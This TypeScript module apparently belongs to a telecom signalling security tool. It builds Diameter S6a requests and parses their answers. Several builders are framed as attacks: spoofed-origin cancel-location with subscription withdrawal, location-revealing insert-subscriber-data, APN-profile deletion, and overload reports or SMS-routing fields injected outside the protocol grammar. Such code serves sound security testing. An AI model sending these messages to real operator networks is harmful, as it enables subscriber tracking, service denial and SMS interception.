import { type Plmn, plmnToBytes } from '#core/bcd.ts'
import { type Message, type MessageOf, requestOf } from '#protocols/diameter/codec.ts'
import { type AvpsOf, diameter, type ValueOf } from '#protocols/diameter/dict/all.ts'
import type { S6aResult } from './causes.ts'

/** S6a requests as an MME or an attacker sends them (TS 29.272 §7.2), and what their answers say. */

const TGPP = 10415
const S6A = 16_777_251

type S6aRequestName = 'AIR' | 'ULR' | 'PUR' | 'NOR' | 'CLR' | 'IDR' | 'DSR' | 'RSR'

/** Who sends, and to whom. An attacker's origin is whatever it writes here. */
export interface Origin {
  host: string
  realm: string
  destinationRealm: string
  destinationHost?: string | undefined
  /** Identities of the nodes that passed it on (RFC 6733 §6.1.9); empty for a direct connection. */
  routeRecord?: readonly string[]
  /** The next Session-Id (RFC 6733 §8.8). */
  session(): string
}

/** Session-Ids of one node: `<host>;<high 32 bits>;<low 32 bits>`. */
export function createSessionIds(host: string, startSeconds: number): () => string {
  let low = 0
  return () => `${host};${startSeconds};${++low}`
}

/** RAT-Type values (TS 29.212 §5.3.31). */
const ratTypes = { eutran: 1004, nbIot: 1005, utran: 1000 } as const

/** ULR-Flags (TS 29.272 §7.3.7). */
export const ulrFlags = {
  singleRegistration: 1,
  s6aIndicator: 2,
  skipSubscriberData: 4,
  gprsSubscriptionDataIndicator: 8,
  nodeTypeIndicator: 16,
  initialAttach: 32,
} as const

/** What every S6a request starts with. */
function common(origin: Origin) {
  return {
    'Session-Id': origin.session(),
    'Vendor-Specific-Application-Id': { 'Vendor-Id': TGPP, 'Auth-Application-Id': S6A },
    // NO_STATE_MAINTAINED (TS 29.272 §7.1.4).
    'Auth-Session-State': 1,
    'Origin-Host': origin.host,
    'Origin-Realm': origin.realm,
    'Destination-Host': origin.destinationHost,
    'Destination-Realm': origin.destinationRealm,
    'Route-Record': origin.routeRecord ?? [],
  }
}

/** The same, towards a node whose name must be known (RFC 6733 §6.5). */
function towards(origin: Origin) {
  return { ...common(origin), 'Destination-Host': origin.destinationHost ?? '' }
}

function request<C extends S6aRequestName>(command: C, avps: AvpsOf<C>): MessageOf<C> {
  return requestOf(diameter, command, avps)
}

export interface AirOptions {
  imsi: string
  plmn: Plmn
  /** Number-Of-Requested-Vectors. Default 1. */
  vectors?: number
  access?: 'E-UTRAN' | 'UTRAN'
  /** RAND || AUTS (TS 29.272 §7.3.15). */
  resynchronisation?: Uint8Array | undefined
  doic?: boolean
  drmp?: number | undefined
  report?: ValueOf<'OC-OLR'> | undefined
}

export function air(origin: Origin, options: AirOptions): MessageOf<'AIR'> {
  const asked = {
    'Number-Of-Requested-Vectors': options.vectors ?? 1,
    'Immediate-Response-Preferred': 0,
    'Re-Synchronization-Info': options.resynchronisation === undefined ? undefined : Buffer.from(options.resynchronisation),
  }
  const message = request('AIR', {
    ...common(origin),
    'User-Name': options.imsi,
    'Visited-PLMN-Id': plmnToBytes(options.plmn),
    'OC-Supported-Features': doicFeatures(options.doic),
    DRMP: options.drmp,
    'Requested-EUTRAN-Authentication-Info': options.access === 'UTRAN' ? undefined : asked,
    'Requested-UTRAN-GERAN-Authentication-Info': options.access === 'UTRAN' ? asked : undefined,
  })
  return options.report === undefined ? message : withReport(message, options.report)
}

export interface UlrOptions {
  imsi: string
  plmn: Plmn
  /** Bits of `ulrFlags` beside the S6a indicator. */
  flags?: number
  ratType?: number
  imei?: string | undefined
  softwareVersion?: string | undefined
  /** E.164 digits of the number that MT SMS for this subscriber should go to. */
  mmeNumberForMtSms?: Buffer | undefined
  doic?: boolean
  drmp?: number | undefined
}

export function ulr(origin: Origin, options: UlrOptions): MessageOf<'ULR'> {
  return request('ULR', {
    ...common(origin),
    'User-Name': options.imsi,
    'Visited-PLMN-Id': plmnToBytes(options.plmn),
    'RAT-Type': options.ratType ?? ratTypes.eutran,
    'ULR-Flags': ulrFlags.s6aIndicator | (options.flags ?? 0),
    'OC-Supported-Features': doicFeatures(options.doic),
    DRMP: options.drmp,
    'Terminal-Information': terminal(options),
    'MME-Number-for-MT-SMS': options.mmeNumberForMtSms,
  })
}

export function pur(origin: Origin, imsi: string, doic = false): MessageOf<'PUR'> {
  return request('PUR', { ...common(origin), 'User-Name': imsi, 'OC-Supported-Features': doicFeatures(doic) })
}

export interface NorOptions {
  imsi: string
  /** NOR-Flags (TS 29.272 §7.3.49). */
  flags?: number
  imei?: string | undefined
  softwareVersion?: string | undefined
  /** The APN that the notification is about. */
  apn?: string | undefined
  mmeNumberForMtSms?: Buffer | undefined
  doic?: boolean
}

export function nor(origin: Origin, options: NorOptions): MessageOf<'NOR'> {
  const message = request('NOR', {
    ...common(origin),
    'User-Name': options.imsi,
    'OC-Supported-Features': doicFeatures(options.doic),
    'Terminal-Information': terminal(options),
    'NOR-Flags': options.flags ?? 0,
    'Service-Selection': options.apn,
  })
  const number = options.mmeNumberForMtSms
  // The grammar of NOR does not name it; an attacker sends it all the same.
  return number === undefined ? message : { ...message, others: [{ code: 1645, vendor: TGPP, flags: 0x80, data: number }] }
}

/** Cancellation-Type 2 is SUBSCRIPTION_WITHDRAWAL: what an attacker wants (TS 29.272 §7.3.24). */
export function clr(origin: Origin, imsi: string, cancellationType = 2): MessageOf<'CLR'> {
  return request('CLR', { ...towards(origin), 'User-Name': imsi, 'Cancellation-Type': cancellationType })
}

/** IDR-Flags 8 asks for EPS location information (TS 29.272 §7.3.103). */
export function idr(origin: Origin, imsi: string, flags = 8): MessageOf<'IDR'> {
  return request('IDR', { ...towards(origin), 'User-Name': imsi, 'Subscription-Data': {}, 'IDR-Flags': flags })
}

/** DSR-Flags 2 withdraws the complete APN configuration profile (TS 29.272 §7.3.25, bit 1). */
export function dsr(origin: Origin, imsi: string, flags = 2): MessageOf<'DSR'> {
  return request('DSR', { ...towards(origin), 'User-Name': imsi, 'DSR-Flags': flags })
}

/** A User-Id is the leading digits of the IMSIs meant (TS 29.272 §7.3.50). */
export function rsr(origin: Origin, userIds: readonly string[]): MessageOf<'RSR'> {
  return request('RSR', { ...towards(origin), 'User-Id': userIds })
}

function terminal(options: {
  imei?: string | undefined
  softwareVersion?: string | undefined
}): ValueOf<'Terminal-Information'> | undefined {
  if (options.imei === undefined) return undefined
  return { IMEI: options.imei, 'Software-Version': options.softwareVersion ?? '01' }
}

/** OLR_DEFAULT_ALGO (RFC 7683 §7.2). */
function doicFeatures(announced = false): ValueOf<'OC-Supported-Features'> | undefined {
  return announced ? { 'OC-Feature-Vector': 1n } : undefined
}

/** A request may not carry a report (RFC 7683 §7.3): one that does is an attack, and goes outside the grammar. */
function withReport(message: MessageOf<'AIR'>, report: ValueOf<'OC-OLR'>): MessageOf<'AIR'> {
  const unsigned = (code: number, value: number): Buffer => {
    const octets = Buffer.alloc(12)
    octets.writeUInt32BE(code, 0)
    octets.writeUInt32BE(12, 4)
    octets.writeUInt32BE(value, 8)
    return octets
  }
  const sequence = Buffer.alloc(16)
  sequence.writeUInt32BE(624, 0)
  sequence.writeUInt32BE(16, 4)
  sequence.writeBigUInt64BE(report['OC-Sequence-Number'], 8)
  const data = Buffer.concat([
    sequence,
    unsigned(626, report['OC-Report-Type']),
    unsigned(627, report['OC-Reduction-Percentage'] ?? 0),
    unsigned(625, report['OC-Validity-Duration'] ?? 30),
  ])
  return { ...message, others: [{ code: 623, vendor: 0, flags: 0, data }] }
}

interface AnyAvps {
  readonly 'Result-Code'?: number | undefined
  readonly 'Experimental-Result'?: ValueOf<'Experimental-Result'> | undefined
}

/** Result-Code or Experimental-Result-Code of an answer; 0 where it has none. */
export function resultOf(answer: Message): S6aResult {
  const avps = answer.avps as AnyAvps
  const experimental = avps['Experimental-Result']
  if (experimental !== undefined) return { code: experimental['Experimental-Result-Code'] ?? 0, experimental: true }
  return { code: avps['Result-Code'] ?? 0, experimental: false }
}

/** 2xxx (RFC 6733 §7.1.2). */
export function isSuccess(answer: Message): boolean {
  const { code, experimental } = resultOf(answer)
  return !experimental && code >= 2000 && code < 3000
}

/** How many authentication vectors of any kind an answer carries. */
export function vectorsIn(answer: Message): number {
  if (answer.command !== 'AIA') return 0
  const info = answer.avps['Authentication-Info']
  return (info?.['E-UTRAN-Vector']?.length ?? 0) + (info?.['UTRAN-Vector']?.length ?? 0) + (info?.['GERAN-Vector']?.length ?? 0)
}

/** Whether an answer carries a subscriber's profile. */
export function hasProfile(answer: Message): boolean {
  return answer.command === 'ULA' && answer.avps['Subscription-Data'] !== undefined
}
